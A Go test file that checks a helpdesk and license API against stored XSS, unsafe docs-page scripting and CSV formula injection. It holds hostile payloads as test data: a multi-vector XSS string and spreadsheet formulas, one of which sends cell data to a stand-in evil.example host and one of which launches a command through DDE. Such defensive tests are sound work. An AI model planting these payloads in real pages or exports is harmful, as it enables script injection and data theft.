package api_test

import (
	"encoding/json"
	"fmt"
	"mime"
	"net/http"
	"strings"
	"testing"
)

// hostile is a page that would run in whatever takes it for one.
const hostile = `</script><script>alert(1)</script>"'><img src=x onerror=alert(2)><svg/onload=alert(3)>javascript:alert(4){{7*7}}<!--`

// harmless are the types that no browser runs, with nosniff.
var harmless = map[string]bool{"application/json": true, "application/problem+json": true, "text/plain": true, "text/csv": true, "text/calendar": true, "application/octet-stream": true, "application/jsonl": true, "text/event-stream": true}

// harmlessly fails unless an answer is one that no browser runs.
func harmlessly(t *testing.T, place string, a answer) {
	t.Helper()
	kind, _, err := mime.ParseMediaType(a.Header().Get("Content-Type"))
	empty := a.Body.Len() == 0 && a.Header().Get("Content-Type") == ""
	if !empty && (err != nil || !harmless[kind]) || a.Header().Get("X-Content-Type-Options") != "nosniff" {
		t.Errorf("%s: %d is served as %v", place, a.Code, a.Header())
	}
	if (kind == "text/csv" || kind == "application/jsonl") && !strings.HasPrefix(a.Header().Get("Content-Disposition"), "attachment") {
		t.Errorf("%s: shown in the browser: %v", place, a.Header())
	}
}

// Whatever text is sent, wherever, comes back as text.
func TestStoredXSS(t *testing.T) {
	d := openTarget(open(t, hurried))
	d.everywhere(hostile, func(place string, a answer) { harmlessly(t, place, a) })
	for path, item := range describe(d.desk).Paths.Map() {
		if item.Get != nil && !strings.HasSuffix(path, "/stream") { // which doesn't end
			harmlessly(t, "GET "+path, d.ask(d.whoMay(item.Get), "GET", d.addresses.Replace(path)))
		}
	}
}

// Each text that somebody writes for others to read is kept as it was written, and is text
// wherever it is shown.
func TestStoredXSSInEachText(t *testing.T) {
	d := openTarget(open(t, hurried))
	quoted, err := json.Marshal(hostile)
	must(t, err)
	with := func(body string) string { return "\n" + strings.ReplaceAll(body, "§", string(quoted)) }
	ticket := d.ask("", "POST", "/v1/tickets", with(`{"license_email":"ops@aerial.example","requester":{"name":"Ada","email":"ada@aerial.example","country":"CH"},"topic":"processing","impact":"critical","subject":§,"description":§}`)).is(201)
	url, ada := ticket.Header().Get("Location"), ticket.text("access_token")
	license := d.ask("administrator", "POST", "/v1/licenses", with(`{"license_key":"X-1","product":§,"kind":"perpetual","owner_email":"ops@aerial.example","seats":2}`)).is(201).Header().Get("Location")
	d.ask("agent", "POST", license+"/devices", with(`{"fingerprint":§,"name":§}`)).is(201)
	d.ask(ada, "POST", url+"/messages", with(`{"kind":"reply","body":§}`)).is(201)
	d.ask("agent", "POST", url+"/messages", with(`{"kind":"action_plan","body":§}`)).is(201)
	d.ask("agent", "POST", url+"/reclassify", with(`{"impact":"major","reason":§}`)).is(200)
	d.ask("agent", "POST", url+"/solve").is(200)
	d.ask(ada, "POST", url+"/rating", with(`{"score":1,"comment":§}`)).is(200)
	d.ask("administrator", "POST", "/v1/webhooks", with(`{"url":"https://hooks.aerial.example/","description":§}`)).is(201)
	d.ask("administrator", "POST", "/v1/users", with(`{"email":"eve@desk.example","name":§,"role":"agent"}`)).is(201)
	d.ask("agent", "POST", "/v1/tokens", with(`{"name":§}`)).is(201)
	for _, shown := range []struct{ who, url, path string }{
		{ada, url, "subject"}, {"agent", url, "description"}, {"agent", "/v1/tickets?status=all&q=onload", "items.0.subject"}, {ada, url + "/events?cursor=1", "items.0.body"}, {ada, url + "/events?cursor=2", "items.0.body"},
		{ada, url + "/events?cursor=3", "items.0.reason"}, {"agent", url, "rating.comment"},
		{"agent", license, "product"}, {"agent", license + "/devices", "items.0.name"}, {"agent", license + "/devices", "items.0.fingerprint"}, {"agent", "/v1/devices?q=onload", "items.0.name"},
		{"administrator", "/v1/webhooks", "items.1.description"}, {"administrator", "/v1/users", "items.3.name"}, {"agent", "/v1/tokens", "items.1.name"},
	} {
		a := d.ask(shown.who, "GET", shown.url).is(200)
		harmlessly(t, shown.url, a)
		if got := a.text(shown.path); got != hostile {
			t.Errorf("%s: %s is %q", shown.url, shown.path, got)
		}
	}
}

// The page of the documentation runs its own scripts, and shows nothing of what is sent.
func TestXSSInTheDocumentation(t *testing.T) {
	d := open(t)
	for _, path := range []string{"/docs", "/docs/", "/docs?url=https://evil.example/api.json", "/docs/?configUrl=data:,x", "/docs?" + percent(hostile)} {
		a := d.ask("", "GET", path).is(200)
		policy := a.Header().Get("Content-Security-Policy")
		for _, want := range []string{"default-src 'none'", "script-src 'self' 'sha256-", "connect-src 'self'", "base-uri 'none'", "form-action 'none'", "frame-ancestors 'none'"} {
			if !strings.Contains(policy, want) {
				t.Errorf("%s: the policy lacks %s: %s", path, want, policy)
			}
		}
		scripts, _, _ := strings.Cut(policy[strings.Index(policy, "script-src"):], ";")
		if strings.Contains(scripts, "unsafe") || strings.Contains(scripts, "*") || strings.Contains(scripts, "http") {
			t.Errorf("%s: the policy lets others' scripts run: %s", path, scripts)
		}
		if body := a.Body.String(); strings.Contains(body, "evil.example") || strings.Contains(body, "alert(") {
			t.Errorf("%s shows what was sent: %s", path, body)
		}
	}
	harmlessly(t, "a page that isn't there", d.ask("", "GET", "/docs/"+percent(hostile)).is(404))
	harmlessly(t, "nothing there", d.ask("", "GET", "/"+percent(hostile)).is(404))
	harmlessly(t, "a method that isn't there", d.ask("", "DELETE", "/v1/topics?"+percent(hostile)).is(http.StatusMethodNotAllowed))
}

// A spreadsheet that opens an export runs nothing of what customers and agents wrote.
func TestFormulaInjection(t *testing.T) {
	d := open(t)
	texts := []string{`=HYPERLINK("https://evil.example?"&A1)`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "＝1+1", "＋1", "－1", "＠SUM(1)"}
	for i, text := range texts {
		quoted, err := json.Marshal(text)
		must(t, err)
		d.ask("administrator", "POST", "/v1/licenses", fmt.Sprintf(`{"license_key":"F-%d","product":%s,"kind":"perpetual","owner_email":"=x%d@evil.example","seats":1}`, i, quoted, i)).is(201)
	}
	exported := d.ask("administrator", "GET", "/v1/licenses/export").is(200).Body.String()
	for _, text := range texts {
		if want := strings.ReplaceAll("'"+text, `"`, `""`); !strings.Contains(exported, ","+want+",") && !strings.Contains(exported, `,"`+want+`",`) {
			t.Errorf("%q is not marked as text in\n%s", text, exported)
		}
	}
	// What is read again is what was written.
	d.ask("administrator", "POST", "/v1/licenses/import", "Content-Type: text/csv", "\n"+exported).is(200).has("imported", "0").has("updated", "0")
}
